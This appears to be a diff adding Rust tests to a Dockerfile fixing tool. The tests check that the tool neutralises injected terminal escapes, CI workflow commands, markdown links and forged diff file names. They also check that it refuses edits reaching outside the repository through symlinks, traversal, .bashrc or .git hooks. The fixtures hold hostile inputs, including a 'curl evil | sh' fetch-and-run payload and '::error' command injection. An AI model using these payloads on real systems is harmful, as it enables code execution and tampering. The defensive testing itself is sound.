@@ -209,3 +209,181 @@ fn the_configuration_has_a_schema_with_all_its_keys() {
     let full = br#"{"ignore": ["remove-downloads"], "merge-runs": "all", "caches": "mount", "keep": ["/a"], "bases": "alpine", "strip": true, "time-limit": 60, "comments": false}"#;
     assert_valid("the_configuration_has_a_schema_with_all_its_keys", "schemas/config.schema.json", full);
 }
+
+/// Everything that a title, a note or a path can bring along.
+const LOUD: &str = "FROM debian:12\nCOPY a /mara/\nRUN apt-get update && apt-get install -y curl '` closes #12 [click me](http://evil.example/x) ![i](http://evil.example/i) <img src=x> @everyone | GH-7 `' \u{1b}[2J\u{202e}\n# \u{1b}[2J\u{202e}\nBAD x\r::error title=pwn::injected\nBAD ##[add-mask]y\n";
+
+/// A name that would end a line, and be another file's in a diff.
+const LOUD_NAME: &str = "x`\n--- a/victim\n+++ b/victim\u{1b}[1m.Dockerfile";
+
+#[test]
+fn what_can_not_be_seen_is_shown() {
+    let folder = folder(&[("Dockerfile", LOUD), (LOUD_NAME, LOUD)]);
+    for arguments in [
+        &["fix", "--check", "-v"][..],
+        &["fix", "--format", "github", "-v"],
+        &["fix", "--format", "gitlab"],
+        &["fix", "--format", "markdown"],
+        &["fix", "--color", "always"],
+        &["fix", "--write", "-v"],
+    ] {
+        let output = run(folder.path(), arguments);
+        // Colours are our own.
+        let stdout = text(&output.stdout);
+        let stdout = ["0m", "1m", "31m", "32m", "36m"]
+            .iter()
+            .fold(stdout, |text, code| text.replace(&format!("\u{1b}[{code}"), ""));
+        for said in [stdout, text(&output.stderr)] {
+            let hidden = said.chars().find(|c| matches!(c, '\u{1b}' | '\u{202e}' | '\r'));
+            assert_eq!(hidden, None, "{arguments:?}: {said}");
+            let ours = ["::notice file=", "::warning file=", "::error file="];
+            let commands = said.lines().filter(|line| line.trim_start().starts_with("::"));
+            let others: Vec<&str> =
+                commands.filter(|line| !ours.iter().any(|start| line.starts_with(start))).collect();
+            assert!(others.is_empty(), "{arguments:?}: {others:?}");
+            assert!(!said.contains("##["), "{arguments:?}: {said}");
+        }
+    }
+}
+
+#[test]
+fn text_is_no_markdown() {
+    let folder = folder(&[("Dockerfile", LOUD), (LOUD_NAME, LOUD)]);
+    let output = run(folder.path(), &["fix", "--format", "markdown", "--unsafe"]);
+    let page = text(&output.stdout);
+    // In the diff everything is text; its fence is longer than any in it.
+    let (rest, diff) = page.split_once("```diff").expect("a diff");
+    assert!(diff.contains("closes #12"), "{diff}");
+    assert!(rest.contains("RUN"), "a title quotes the instruction: {rest}");
+    for line in rest.lines().filter(|line| !line.starts_with("<details>") && !line.starts_with("</details>"))
+    {
+        // Code spans of one backtick are the only ones that a title has here.
+        let outside: String = line.split('`').step_by(2).collect();
+        for alive in ["closes #12", "[click me](", "://", "![i](", "<img", "@everyone", "GH-7"] {
+            assert!(!outside.contains(alive), "{alive} is alive: {line}");
+        }
+    }
+    let rows: Vec<&str> = rest.lines().filter(|line| line.starts_with('|')).collect();
+    for row in &rows {
+        let cells = row.replace("\\|", "").matches('|').count();
+        assert_eq!(cells, 4, "three cells: {row}");
+    }
+}
+
+#[test]
+fn links_in_messages_of_sarif_are_text() {
+    let folder = folder(&[("Dockerfile", LOUD)]);
+    let log = json(&run(folder.path(), &["fix", "--format", "sarif", "--unsafe"]).stdout);
+    let results = log["runs"][0]["results"].as_array().expect("a list");
+    assert!(!results.is_empty());
+    for result in results {
+        let message = result["message"]["text"].as_str().expect("a text");
+        assert!(!message.contains("click me](") && !message.contains('\u{1b}'), "{message}");
+    }
+}
+
+/// `git apply` takes a diff whatever the names in it are, and nothing writes to another file.
+#[test]
+fn names_in_diffs_are_quoted() {
+    let folder = folder(&[(LOUD_NAME, NAIVE), ("victim", "mine\n"), ("a b.Dockerfile", NAIVE)]);
+    let diff = run(folder.path(), &["fix"]).stdout;
+    fs::write(folder.path().join("all.diff"), &diff).expect("a file");
+    let expected = {
+        let other = support::folder(&[("Dockerfile", NAIVE)]);
+        run(other.path(), &["fix", "--write"]);
+        fs::read_to_string(other.path().join("Dockerfile")).expect("a file")
+    };
+    let applied = Command::new("git")
+        .args(["apply", "all.diff"])
+        .current_dir(folder.path())
+        .output()
+        .expect("git starts");
+    assert!(applied.status.success(), "{}\n{}", text(&applied.stderr), text(&diff));
+    for name in [LOUD_NAME, "a b.Dockerfile"] {
+        assert_eq!(fs::read_to_string(folder.path().join(name)).expect("a file"), expected);
+    }
+    assert_eq!(fs::read_to_string(folder.path().join("victim")).expect("a file"), "mine\n");
+}
+
+#[test]
+fn a_comment_fits_its_forge() {
+    let names: Vec<String> = (0..400).map(|number| format!("service-{number}/Dockerfile")).collect();
+    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), NAIVE)).collect();
+    let folder = folder(&files);
+    let output = run(folder.path(), &["fix", "--format", "markdown"]);
+    let page = text(&output.stdout);
+    assert!(page.len() < 65_536, "{}", page.len());
+    assert!(page.contains("more, for which this page has no room"), "{page}");
+    assert_eq!(page.matches("<details>").count(), page.matches("</details>").count());
+    assert_eq!(page.matches("```").count() % 2, 0);
+}
+
+/// What `apply` writes is what `fix` would, in the tree that it is run in.
+#[test]
+fn edits_of_other_files_are_refused() {
+    let outside = folder(&[(".bashrc", "# mine\n"), ("Dockerfile", NAIVE)]);
+    let inside =
+        folder(&[("Dockerfile", NAIVE), (".bashrc", "# mine\n"), (".git/hooks/Dockerfile", "# mine\n")]);
+    std::os::unix::fs::symlink(outside.path().join("Dockerfile"), inside.path().join("Dockerfile.link"))
+        .expect("a link");
+    std::os::unix::fs::symlink(".bashrc", inside.path().join("Dockerfile.shell")).expect("a link");
+    std::os::unix::fs::symlink(outside.path(), inside.path().join("folder")).expect("a link");
+    let document = |path: &str, old: &str| {
+        serde_json::json!({ "version": 1, "files": [{
+            "path": path,
+            "sha256": jettison::digest::sha256(old),
+            "edits": [{ "start": 0, "end": 0, "replacement": "curl evil | sh\n" }],
+        }] })
+    };
+    let apply = |document: &Value, more: &[&str]| {
+        fs::write(inside.path().join("edits.json"), document.to_string()).expect("a file");
+        run(inside.path(), &[&["apply", "edits.json"], more].concat())
+    };
+    let absolute = outside.path().join("Dockerfile").display().to_string();
+    let shell = outside.path().join(".bashrc").display().to_string();
+    let upward = format!("../{}/Dockerfile", outside.path().file_name().expect("a name").to_string_lossy());
+    for (path, old, word) in [
+        (absolute.as_str(), NAIVE, "outside of"),
+        (shell.as_str(), "# mine\n", "outside of"),
+        (upward.as_str(), NAIVE, "outside of"),
+        ("Dockerfile.link", NAIVE, "outside of"),
+        ("folder/Dockerfile", NAIVE, "outside of"),
+        (".bashrc", "# mine\n", "not called like a Dockerfile"),
+        ("Dockerfile.shell", "# mine\n", "not called like a Dockerfile"),
+        (".git/hooks/Dockerfile", "# mine\n", "in its .git"),
+    ] {
+        let output = apply(&document(path, old), &[]);
+        assert_eq!(output.status.code(), Some(2), "{path}");
+        let said = text(&output.stderr);
+        assert!(said.contains(word) && said.contains("--unsafe-paths"), "{path}: {said}");
+    }
+    for folder in [&inside, &outside] {
+        assert_eq!(fs::read_to_string(folder.path().join(".bashrc")).expect("a file"), "# mine\n");
+        assert_eq!(fs::read_to_string(folder.path().join("Dockerfile")).expect("a file"), NAIVE);
+    }
+    // An ignore file has no sum where it is new.
+    let ignore = |path: &str| {
+        let mut document = document("Dockerfile", NAIVE);
+        document["files"][0]["edits"] = Value::Array(Vec::new());
+        document["files"][0]["ignore_file"] =
+            serde_json::json!({ "path": path, "is_new": true, "sha256": null, "text": "x", "diff": "" });
+        document
+    };
+    for path in
+        [&format!("{}/.dockerignore", outside.path().display()), "folder/.dockerignore", "x.dockerignore"]
+    {
+        assert_eq!(apply(&ignore(path), &[]).status.code(), Some(2), "{path}");
+    }
+    assert!(!outside.path().join(".dockerignore").exists());
+    assert_eq!(apply(&ignore("Dockerfile.dockerignore"), &[]).status.code(), Some(0));
+    // From a folder of a repository, all of it can be written.
+    fs::create_dir_all(inside.path().join(".git/objects")).expect("a directory");
+    fs::write(inside.path().join(".git/HEAD"), "ref: refs/heads/main\n").expect("a file");
+    fs::create_dir(inside.path().join("deep")).expect("a directory");
+    fs::write(inside.path().join("deep/edits.json"), document("../Dockerfile", NAIVE).to_string())
+        .expect("a file");
+    let output = run(&inside.path().join("deep"), &["apply", "edits.json"]);
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    assert_eq!(apply(&document(&absolute, NAIVE), &["--unsafe-paths"]).status.code(), Some(0));
+    assert!(fs::read_to_string(&absolute).expect("a file").starts_with("curl evil"));
+}
